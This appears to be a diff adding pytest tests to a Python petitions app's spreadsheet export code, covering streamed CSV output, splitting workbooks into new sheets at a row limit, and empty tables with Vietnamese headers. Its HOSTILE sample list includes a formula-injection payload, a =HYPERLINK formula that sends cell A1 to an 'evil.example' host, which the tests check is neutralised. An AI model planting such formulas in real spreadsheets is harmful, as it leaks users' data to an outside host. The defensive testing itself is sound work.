@@ -2,13 +2,23 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import zipfile
+from datetime import date
 
 import openpyxl
 import pytest
 
-from petitions.spreadsheets import new_workbook, sheet_cell, workbook_bytes
+from petitions.spreadsheets import (
+    CSV_CHUNK_ROWS,
+    csv_bytes,
+    csv_stream,
+    new_workbook,
+    sheet_cell,
+    workbook_bytes,
+    write_table_workbook,
+)
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
@@ -71,3 +81,45 @@ def test_csv_keeps_numbers_dates_and_vietnamese_text() -> None:
     assert data.startswith("\ufeff".encode())
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
     assert rows == [["a", "b", "c", "d"], ["-5", "02/03/2026", "Nguyễn Văn An", ""]]
+
+
+def test_a_streamed_csv_is_the_whole_csv_in_chunks_consumed_as_they_come() -> None:
+    read = []
+
+    def rows():  # type: ignore[no-untyped-def]
+        for number in range(1_203):
+            read.append(number)
+            yield (f"Nguyễn Văn {number}", HOSTILE[number % len(HOSTILE)], date(2026, 1, 2))
+
+    stream = csv_stream(("Họ tên", "Ghi chú", "Ngày"), rows())
+    first = next(stream)
+    assert first == "\ufeffHọ tên,Ghi chú,Ngày\r\n".encode() and read == []  # nothing read before it is asked for
+    second = next(stream)
+    assert len(read) == CSV_CHUNK_ROWS and second.count(b"\r\n") == CSV_CHUNK_ROWS
+    body = first + second + b"".join(stream)
+    assert body == csv_bytes(("Họ tên", "Ghi chú", "Ngày"), [(f"Nguyễn Văn {n}", HOSTILE[n % len(HOSTILE)], date(2026, 1, 2)) for n in range(1_203)])
+    lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    assert len(lines) == 1_204 and lines[1] == ["Nguyễn Văn 0", "'" + HOSTILE[0], "02/01/2026"]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for cell in line)
+
+
+def test_a_table_workbook_goes_on_to_a_new_sheet_at_the_row_limit() -> None:
+    target = io.BytesIO()
+    rows = [(f"Dòng {n}", HOSTILE[0], n, date(2026, 1, 2)) for n in range(7)]
+    assert write_table_workbook(target, "Sổ đăng ký đơn: [2026]", ("Tên", "Ghi chú", "Số", "Ngày"), rows, max_rows=3) == 7
+    workbook = openpyxl.load_workbook(io.BytesIO(target.getvalue()))
+    assert workbook.sheetnames == ["Sổ đăng ký đơn 2026", "Sổ đăng ký đơn 2026 (2)", "Sổ đăng ký đơn 2026 (3)", "Sổ đăng ký đơn 2026 (4)"]
+    sheets = [list(sheet.iter_rows()) for sheet in workbook.worksheets]
+    assert [len(rows) for rows in sheets] == [3, 3, 3, 2]  # each with its header row
+    assert all(rows[0][0].value == "Tên" and rows[0][0].font.b for rows in sheets)
+    cells = [row for rows in sheets for row in rows[1:]]
+    assert [row[0].value for row in cells] == [f"Dòng {n}" for n in range(7)]
+    assert all(row[1].value == HOSTILE[0] and row[1].data_type == "s" for row in cells)
+    assert cells[0][3].number_format == "dd/mm/yyyy"
+
+
+def test_an_empty_table_workbook_still_has_its_header() -> None:
+    target = io.BytesIO()
+    assert write_table_workbook(target, "Công dân", ("Tên",), []) == 0
+    sheet = openpyxl.load_workbook(io.BytesIO(target.getvalue())).active
+    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["Tên"]]
